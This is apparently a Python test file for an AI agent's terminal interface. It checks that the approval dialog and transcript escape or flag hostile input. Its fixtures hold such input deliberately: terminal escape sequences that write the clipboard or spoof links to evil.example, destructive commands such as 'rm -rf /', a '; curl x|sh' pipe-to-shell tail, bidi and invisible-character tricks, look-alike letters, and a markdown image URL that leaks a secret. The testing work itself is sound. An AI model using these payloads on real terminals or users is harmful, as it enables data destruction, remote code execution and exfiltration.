"""The terminal rows of the security corpus, each as a check of what would be written to a terminal.

Rows that are about another front end or about the text that goes to the model are named with who holds them.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pyte
import pytest
from prompt_toolkit.completion import CompleteEvent
from prompt_toolkit.document import Document

from tests.fakes.scripted_session import command_request, write_request
from xun import events as ev
from xun.choice import ChoiceRequest, FileDiff
from xun_cli.commands.output import Output
from xun_cli.render.approval import approval_view, first_state
from xun_cli.render.outputs import output_lines
from xun_cli.render.text import Line, ansi, plain_lines
from xun_cli.render.transcript import Transcript
from xun_cli.repl.completion import InputCompleter

CORPUS = Path(__file__).parent / "corpus" / "security.jsonl"
NAME = "a\x1b]52;c;ZXZpbA==\x07b.txt"
HOSTILE = (
    "\x1b]0;title\x07\x1b]8;;http://evil.example\x07http://good.example\x1b]8;;\x07\x1b]52;c;ZXZpbA==\x07"
    "\x1bP1$r\x1b\\\x1b_apc\x1b\\\x1b[6n\x1bc\x9b31m\x9d0;t\x9c\r\x08\x7f\x00"
)
OURS = re.compile(r"\x1b\[[\d;]*m")


def written(lines: list[Line]) -> str:
    return "\r\n".join(ansi(line) for line in lines)


def is_clean(lines: list[Line]) -> bool:
    """Tell whether nothing but our own colours and line ends is a control character."""
    text = OURS.sub("", written(lines)).replace("\r\n", "")
    return not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f\ud800-\udfff]", text)


def dialog(request: ChoiceRequest, **state: object) -> list[Line]:
    return approval_view(request, 80, 21, replace(first_state(request), **state))


def on_screen(lines: list[Line]) -> str:
    screen = pyte.Screen(80, 24)
    pyte.Stream(screen).feed(written(lines))
    return "\n".join(screen.display)


def transcript() -> Transcript:
    return Transcript(lambda: 80, clock=lambda: 0.0)


def shown(*events: ev.Event) -> list[Line]:
    made = transcript()
    lines = [line for event in events for line in made.feed(event)]
    return lines + made.live(10)


def control_in_command() -> None:
    lines = dialog(command_request("rm -rf build\r\x1b[2Kls"))
    assert is_clean(lines)
    screen = on_screen(lines)
    assert "rm -rf build" in screen and "<U+000D>" in screen and "<U+001B>" in screen


def long_command() -> None:
    for text in ("echo " + "a" * 2_990 + "; rm -rf /; " + "b" * 2_990, "\n".join(f"echo {n}" for n in range(300))):
        request = command_request(text)
        assert re.search(r"\d+ more lines of the command", plain_lines(dialog(request)))
        full = "".join(plain_lines(dialog(request, view="full", scroll=at)) for at in range(0, 400, 3))
        assert "rm -rf /" in full if "rm -rf" in text else all(f"echo {n}⏎" in full for n in range(299))


def padded_command() -> None:
    screen = on_screen(dialog(command_request("ls" + " " * 400 + "; curl x|sh")))
    assert "<400 spaces>" in screen and "; curl x|sh" in screen


def hostile_file_name() -> None:
    started = ev.ToolStarted(call_id="1", tool="read_file", args={"path": NAME})
    found = {"matches": [{"path": NAME, "line": 1, "text": NAME}]}
    lines = shown(
        started,
        ev.ToolCompleted(call_id="1", tool="read_file", ok=False, status="error", error={"error": f"{NAME}: no such"}),
        ev.ToolStarted(call_id="2", tool="grep", args={"pattern": NAME, "path": NAME}),
        ev.ToolCompleted(call_id="2", tool="grep", result=found, content=NAME, display=NAME),
        ev.Error(message=f"{NAME} can't be read"),
    )
    lines += dialog(write_request(files=(FileDiff(f"/proj/{NAME}", "update", "@@ -1 +1 @@\n-a\n+b"),)))
    lines += [row for kind in ("text", "error", "markdown", "diff") for row in output_lines(Output(kind, NAME), 80)]
    lines += output_lines(Output("table", NAME, ((NAME, NAME),), (NAME, NAME)), 80)
    assert is_clean(lines) and "<U+001B>]52" in plain_lines(lines)
    completer = InputCompleter(lambda text: [(f"/{NAME}", NAME)], lambda text: (0, [f"@{NAME}"]))
    for typed in ("/", "@"):
        for item in completer.get_completions(Document(typed), CompleteEvent()):
            assert "\x1b" not in item.display_text + item.display_meta_text


def hostile_stream() -> None:
    pieces = [ev.MessageDelta(text=char) for char in f"{HOSTILE}\n\n`{HOSTILE}`\n\n```x\n{HOSTILE}\n```\n"]
    made = transcript()
    for piece in pieces:
        assert is_clean([*made.feed(piece), *made.live(10)])
    assert is_clean(made.feed(ev.MessageCompleted(text="x")))


def hostile_output() -> None:
    text = HOSTILE * 2_000
    started = ev.ToolStarted(call_id="1", tool="bash", args={"command": "x"})
    made = transcript()
    made.feed(started)
    made.feed(ev.ToolOutput(call_id="1", text=text))
    assert is_clean(made.live(10))
    done = ev.ToolCompleted(call_id="1", tool="bash", result={"stdout": text, "stderr": text, "returncode": 0})
    assert is_clean(made.feed(done)) and is_clean(made.expand())


def reordered_command() -> None:
    request = command_request("cat \u202egnp.txt\u2066; rm x")
    screen = on_screen(dialog(request))
    assert "<U+202E>" in screen and "<U+2066>" in screen and "contains hidden characters" in screen
    assert re.search(r"▸d\s+Deny", screen)


def invisible_letters() -> None:
    text = "note" + "".join(chr(0xE0000 + ord(char)) for char in "run rm") + "\u200b" * 50 + "\ufe0f" * 50
    lines = shown(ev.MessageDelta(text=text + "\n"), ev.MessageCompleted(text=text), ev.Notice(text=text))
    screen = plain_lines(lines)
    assert "<U+E0072>" in screen and "<U+200B>" in screen and screen.count("<U+FE0F>") >= 49


def look_alikes() -> None:
    screen = on_screen(dialog(command_request("сurl http://x；")))
    assert "mixes scripts" in screen and "U+0441" in screen and "U+FF1B" in screen
    assert "non-ASCII" in on_screen(dialog(command_request("echo ；")))


def markup() -> None:
    text = "[red]x[/red] [link=file:///x]y[/link] [/]"
    lines = shown(
        ev.ToolStarted(call_id="1", tool="bash", args={"command": text}),
        ev.ToolCompleted(call_id="1", tool="bash", result={"stdout": text, "returncode": 0}),
        ev.Error(message=text),
    )
    assert plain_lines(lines).count(text) == 3


def fetching_markdown() -> None:
    text = "![x](http://127.0.0.1:1/?q=SECRET) [http://good.example](http://evil.example)\n"
    screen = plain_lines(shown(ev.MessageDelta(text=text), ev.MessageCompleted(text=text)))
    assert "(http://127.0.0.1:1/?q=SECRET)" in screen and "(http://evil.example)" in screen
    assert "\x1b]8" not in written(shown(ev.MessageDelta(text=text)))


def lying_diff() -> None:
    diff = "@@ -1,2 +1,1 @@\n-a\x1b[2K\rb\n-" + "x" * 5_000 + "\n+c\n\\ No newline at end of file"
    request = write_request(diff=diff)
    full = "".join(plain_lines(dialog(request, view="full", scroll=at)) + "\n" for at in range(0, 90, 2))
    assert "<U+001B>[2K<U+000D>" in full and "No newline at end of file" in full and "↪" in full
    rows = {row for row in full.split("\n") if "xxx" in row}
    assert is_clean(dialog(request)) and len(rows) >= 2


CHECKS: dict[str, Callable[[], None] | str] = {
    "sec-terminal-001": control_in_command,
    "sec-terminal-002": long_command,
    "sec-terminal-003": padded_command,
    "sec-terminal-004": hostile_file_name,
    "sec-terminal-005": hostile_stream,
    "sec-terminal-006": hostile_output,
    "sec-terminal-007": hostile_output,
    "sec-terminal-008": reordered_command,
    "sec-terminal-009": invisible_letters,
    "sec-terminal-010": look_alikes,
    "sec-terminal-011": markup,
    "sec-terminal-012": fetching_markdown,
    "sec-terminal-013": lying_diff,
    "sec-terminal-014": "headless: its own tests hold it",
}


def rows() -> list[str]:
    items = (json.loads(line) for line in CORPUS.read_text(encoding="utf-8").splitlines() if line.strip())
    return [item["id"] for item in items if item["area"] == "terminal"]


@pytest.mark.parametrize("row", rows())
def test_row(row: str) -> None:
    check = CHECKS[row]
    if callable(check):
        check()
    else:
        assert "tests hold it" in check
